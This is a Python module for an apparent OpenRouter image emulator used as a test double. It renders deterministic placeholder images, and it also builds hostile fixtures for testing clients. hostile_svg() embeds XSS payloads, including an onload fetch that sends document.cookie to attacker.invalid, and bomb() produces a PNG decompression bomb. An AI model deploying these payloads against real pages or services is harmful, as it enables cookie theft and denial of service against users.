"""Real images, drawn cheaply and deterministically with Pillow.

An image depends only on (model, prompt, seed, index) and the requested size,
format and background: same inputs, same bytes. The background (a gradient
with soft shapes) is drawn on a small canvas and resized, so a 4K image costs
one resize and one encode; the text band (prompt, "OpenRouter emulator", model,
size) is drawn at full size so it stays legible.

Pixel sizes (``pixel_size``):

* ``standard`` family, the seeds' 1K table: 1:1 1024x1024, 2:3 832x1248,
  3:2 1248x832, 3:4 864x1184, 4:3 1184x864, 4:5 896x1152, 5:4 1152x896,
  9:16 768x1344, 16:9 1344x768, 21:9 1536x672; extended 1:4 512x2048,
  4:1 2048x512, 1:8 384x3072, 8:1 3072x384; any other ratio is computed at
  about one megapixel (sides multiples of 16).
* ``mai`` (microsoft/mai-image-2.5): 1:1 1024x1024, 4:3 1024x768, 3:4 768x1024,
  16:9 1365x768, 9:16 768x1365, 3:2 1152x768, 2:3 768x1152.
* ``gpt`` (OpenAI): 1:1 1024x1024, 3:2 1536x1024, 2:3 1024x1536.

Tiers scale the 1K size: ``512`` (chat ``0.5K``) x0.5, ``2K`` x2, ``4K`` x4.
"""

from __future__ import annotations

import base64
import functools
import hashlib
import io
import math
import struct
import textwrap
import zlib
from collections.abc import Sequence
from xml.sax.saxutils import escape

from PIL import Image, ImageDraw, ImageFilter, ImageFont, ImageOps

from generation.openrouter.sizes import GPT_1K, MAI_1K, STANDARD_1K, TIER_SCALE, Size

RGB = tuple[int, int, int]

MEDIA_TYPES: dict[str, str] = {
    "png": "image/png",
    "jpeg": "image/jpeg",
    "webp": "image/webp",
    "svg": "image/svg+xml",
}
WATERMARK = "OpenRouter emulator"


def parse_ratio(ratio: str) -> float | None:
    """``"16:9"`` -> 1.777…; ``None`` for anything else."""
    left, sep, right = ratio.partition(":")
    if not sep:
        return None
    try:
        w, h = float(left), float(right)
    except ValueError:
        return None
    if w <= 0 or h <= 0 or not math.isfinite(w / h):
        return None
    return w / h


def pixel_size(family: str, ratio: str, tier: str) -> Size:
    """The output size in pixels for a model family, aspect ratio and tier."""
    table = {"mai": MAI_1K, "gpt": GPT_1K}.get(family, STANDARD_1K)
    base = table.get(ratio) or STANDARD_1K.get(ratio)
    if base is None:
        value = parse_ratio(ratio) or 1.0
        base = (
            max(16, round(math.sqrt(1024 * 1024 * value) / 16) * 16),
            max(16, round(math.sqrt(1024 * 1024 / value) / 16) * 16),
        )
    scale = float(TIER_SCALE.get(tier, 1))
    return max(1, round(base[0] * scale)), max(1, round(base[1] * scale))


def tier_of(size: Size) -> str:
    """The resolution tier of a pixel size, by the geometric mean of its sides."""
    side = math.sqrt(size[0] * size[1])
    if side <= 724:
        return "512"
    if side <= 1448:
        return "1K"
    if side <= 2896:
        return "2K"
    return "4K"


def _digest(*parts: object) -> bytes:
    return hashlib.sha512("\x1f".join(str(p) for p in parts).encode()).digest()


def _palette(digest: bytes) -> list[RGB]:
    return [(digest[i], digest[i + 1], digest[i + 2]) for i in range(0, 18, 3)]


def _chars(width: int, font_px: int) -> int:
    return max(8, int(width / (font_px * 0.56)))


@functools.cache
def _font(size: int) -> ImageFont.FreeTypeFont | ImageFont.ImageFont:
    try:
        return ImageFont.load_default(size=size)
    except (ImportError, OSError):  # Pillow built without FreeType
        return ImageFont.load_default()


@functools.lru_cache(maxsize=256)
def _canvas(
    small: Size, digest: bytes, palette: tuple[RGB, ...], background: RGB | None
) -> tuple[Image.Image, Image.Image]:
    """The background at thumbnail size (long side 256) and its shapes' mask; never mutated."""
    colours = list(palette) + _palette(digest)
    if background is not None:
        canvas = Image.new("RGB", small, background)
    else:
        gradient = Image.linear_gradient("L").rotate(90 * (digest[20] % 4)).resize(small)
        canvas = ImageOps.colorize(gradient, colours[0], colours[1])
    mask = Image.new("L", small, 0)
    pen, mask_pen = ImageDraw.Draw(canvas), ImageDraw.Draw(mask)
    for shape in range(4 + digest[21] % 3):
        b = digest[22 + shape * 2 : 24 + shape * 2]
        cx, cy = b[0] / 255 * small[0], b[1] / 255 * small[1]
        r = (0.12 + (b[0] ^ b[1]) / 255 * 0.25) * min(small)
        box = (cx - r, cy - r, cx + r, cy + r)
        colour = colours[(2 + shape) % len(colours)]
        if shape % 2:
            pen.rectangle(box, fill=colour)
            mask_pen.rectangle(box, fill=255)
        else:
            pen.ellipse(box, fill=colour)
            mask_pen.ellipse(box, fill=255)
    soften = ImageFilter.GaussianBlur(0.8)
    return canvas.filter(soften), mask.filter(soften)


def _small(size: Size) -> Size:
    scale = 256 / max(size)
    return max(1, round(size[0] * scale)), max(1, round(size[1] * scale))


def draw(
    size: Size,
    *,
    text: str,
    model: str,
    seed: int | None,
    index: int,
    transparent: bool = False,
    palette: Sequence[RGB] | None = None,
    background: RGB | None = None,
) -> Image.Image:
    """The image for these inputs, RGB (or RGBA with a transparent background)."""
    width, height = size
    digest = _digest(model, text, seed, index)
    canvas, mask = _canvas(_small(size), digest, tuple(palette or ()), background)
    image = canvas.resize(size, Image.Resampling.BILINEAR)
    if transparent:
        image.putalpha(mask.resize(size, Image.Resampling.BILINEAR))

    font_px = max(10, min(min(width, height) // 22, 72))
    margin = max(4, font_px // 2)
    lines = textwrap.wrap(text, _chars(width - 2 * margin, font_px))[:3] or ["(empty prompt)"]
    small_px = max(8, font_px * 2 // 3)
    info_chars = _chars(width - 2 * margin, small_px)
    info = [f"{WATERMARK} · {model}"[:info_chars], f"{width}x{height} · seed {seed} · #{index}"]
    band = (len(lines) * font_px + len(info) * small_px) * 1.25 + margin * 2
    top = max(0, height - int(band))
    pen = ImageDraw.Draw(image)
    pen.rectangle((0, top, width, height), fill=(16, 16, 24, 255) if transparent else (16, 16, 24))
    y = top + margin
    for line in lines:
        pen.text((margin, y), line, font=_font(font_px), fill=(250, 250, 250))
        y += int(font_px * 1.25)
    for line in info:
        pen.text((margin, y), line, font=_font(small_px), fill=(200, 200, 120))
        y += int(small_px * 1.25)
    return image


def preview(
    size: Size,
    stage: int,
    *,
    text: str,
    model: str,
    seed: int | None,
    index: int,
    transparent: bool = False,
    palette: Sequence[RGB] | None = None,
    background: RGB | None = None,
) -> Image.Image:
    """A blurry low-resolution partial render (at most 512 px long; stage 0 coarser than 1)."""
    digest = _digest(model, text, seed, index)
    canvas, mask = _canvas(_small(size), digest, tuple(palette or ()), background)
    if transparent:
        canvas = canvas.copy()
        canvas.putalpha(mask)
    scale = min(1.0, 512 / max(size))
    target = (max(1, round(size[0] * scale)), max(1, round(size[1] * scale)))
    coarse = 12 if stage == 0 else 48
    tiny_scale = coarse / max(size)
    tiny = (max(1, round(size[0] * tiny_scale)), max(1, round(size[1] * tiny_scale)))
    return canvas.resize(tiny, Image.Resampling.BOX).resize(target, Image.Resampling.BILINEAR)


@functools.lru_cache(maxsize=64)
def rendered(
    size: Size,
    fmt: str,
    compression: int | None,
    text: str,
    model: str,
    seed: int | None,
    index: int,
    transparent: bool,
    palette: tuple[RGB, ...],
    background: RGB | None,
) -> bytes:
    """The encoded image (cached: a benchmark sending one prompt many times draws it once)."""
    if fmt == "svg":
        return svg(
            size,
            text=text,
            model=model,
            seed=seed,
            index=index,
            palette=palette,
            background=background,
        )
    image = draw(
        size,
        text=text,
        model=model,
        seed=seed,
        index=index,
        transparent=transparent,
        palette=palette,
        background=background,
    )
    return encode(image, fmt, compression)


def encode(image: Image.Image, fmt: str, compression: int | None = None) -> bytes:
    """``image`` as ``png``, ``jpeg`` or ``webp`` bytes (deterministic)."""
    out = io.BytesIO()
    big = image.width * image.height > 2_000_000
    quality = 90 if compression is None else max(1, min(100, compression))
    if fmt == "jpeg":
        image.convert("RGB").save(out, "JPEG", quality=quality)
    elif fmt == "webp":
        image.save(out, "WEBP", quality=quality, method=0 if big else 4)
    else:
        image.save(out, "PNG", compress_level=1)  # speed over size: it is a test double
    return out.getvalue()


def svg(
    size: Size,
    *,
    text: str,
    model: str,
    seed: int | None,
    index: int,
    palette: Sequence[RGB] | None = None,
    background: RGB | None = None,
) -> bytes:
    """Deterministic SVG markup for a vector model."""
    width, height = size
    digest = _digest(model, text, seed, index)
    colours = [f"#{r:02x}{g:02x}{b:02x}" for r, g, b in list(palette or []) + _palette(digest)]
    fill = (
        f"#{background[0]:02x}{background[1]:02x}{background[2]:02x}" if background else "url(#g)"
    )
    shapes = []
    for shape in range(4 + digest[21] % 3):
        b = digest[22 + shape * 2 : 24 + shape * 2]
        cx, cy = round(b[0] / 255 * width), round(b[1] / 255 * height)
        r = round((0.12 + (b[0] ^ b[1]) / 255 * 0.25) * min(size))
        colour = colours[(2 + shape) % len(colours)]
        if shape % 2:
            shapes.append(
                f'<rect x="{cx - r}" y="{cy - r}" width="{2 * r}" height="{2 * r}" fill="{colour}"/>'
            )
        else:
            shapes.append(f'<circle cx="{cx}" cy="{cy}" r="{r}" fill="{colour}"/>')
    font_px = max(10, min(min(size) // 22, 72))
    lines = textwrap.wrap(text, _chars(width - font_px, font_px))[:3] or ["(empty prompt)"]
    texts = [
        f'<text x="{font_px // 2}" y="{height - font_px * (len(lines) + 2 - i)}" '
        f'font-family="sans-serif" font-size="{font_px}" fill="#fafafa">{escape(line)}</text>'
        for i, line in enumerate(lines)
    ]
    texts.append(
        f'<text x="{font_px // 2}" y="{height - font_px // 2}" font-family="sans-serif" '
        f'font-size="{font_px * 2 // 3}" fill="#c8c878">{escape(WATERMARK)} · {escape(model)}</text>'
    )
    markup = (
        f'<svg xmlns="http://www.w3.org/2000/svg" width="{width}" height="{height}" '
        f'viewBox="0 0 {width} {height}">'
        f'<defs><linearGradient id="g" x1="0" y1="0" x2="1" y2="1">'
        f'<stop offset="0" stop-color="{colours[0]}"/><stop offset="1" stop-color="{colours[1]}"/>'
        f"</linearGradient></defs>"
        f'<rect width="{width}" height="{height}" fill="{fill}"/>'
        + "".join(shapes)
        + f'<rect x="0" y="{height - font_px * (len(lines) + 3)}" width="{width}" '
        f'height="{font_px * (len(lines) + 3)}" fill="#101018"/>' + "".join(texts) + "</svg>"
    )
    return markup.encode()


def hostile_svg(size: Size = (1024, 1024)) -> bytes:
    """An SVG that a careless page would execute or use to call out (well-formed XML)."""
    width, height = size
    return (
        '<?xml version="1.0" encoding="UTF-8"?>\n'
        '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" '
        f'width="{width}" height="{height}" viewBox="0 0 {width} {height}" '
        "onload=\"fetch('https://attacker.invalid/steal?c='+document.cookie)\">"
        '<script type="text/javascript">alert(document.domain)</script>'
        '<rect width="100%" height="100%" fill="#c00" onmouseover="alert(1)"/>'
        '<image href="https://attacker.invalid/pixel.png" width="10" height="10"/>'
        '<use xlink:href="https://attacker.invalid/sprite.svg#icon"/>'
        '<a href="javascript:alert(2)"><text x="20" y="60" font-size="40">'
        f"{WATERMARK}: hostile SVG</text></a>"
        '<foreignObject width="10" height="10"><iframe xmlns="http://www.w3.org/1999/xhtml" '
        'src="https://attacker.invalid/frame"/></foreignObject>'
        "</svg>"
    ).encode()


def garbage(*parts: object) -> bytes:
    """Deterministic bytes that are not an image."""
    chunk = _digest("garbage", *parts)
    return b"EMULATOR GARBAGE: NOT AN IMAGE\n" + chunk * 128


def _png_chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


@functools.cache
def bomb(side: int = 30000) -> bytes:
    """A valid ~110 KB 1-bit PNG declaring side x side pixels (a decompression bomb)."""
    row = b"\x00" * (1 + (side + 7) // 8)
    compressor = zlib.compressobj(9)
    parts = [compressor.compress(row) for _ in range(side)]
    parts.append(compressor.flush())
    header = struct.pack(">IIBBBBB", side, side, 1, 0, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + _png_chunk(b"IHDR", header)
        + _png_chunk(b"IDAT", b"".join(parts))
        + _png_chunk(b"IEND", b"")
    )


def data_url(data: bytes, media_type: str) -> str:
    return f"data:{media_type};base64,{base64.b64encode(data).decode()}"


def probe_size(data: bytes) -> Size | None:
    """The pixel size an image declares, read from its header only; ``None`` if not an image."""
    try:
        with Image.open(io.BytesIO(data)) as image:
            return image.size
    except (OSError, ValueError, Image.DecompressionBombError):
        return None
